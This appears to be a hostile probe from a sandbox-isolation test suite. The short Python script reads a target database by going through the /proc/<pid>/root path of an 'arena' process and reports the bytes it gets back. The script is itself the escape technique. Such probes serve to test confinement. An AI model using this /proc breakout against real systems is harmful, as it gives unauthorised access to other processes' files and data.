"""Read the database by the root folder of the arena's process."""

from pathlib import Path

from hostile import targets, tell

tell(Path(f"/proc/{targets['arena_pid']}/root{targets['database']}").read_bytes())
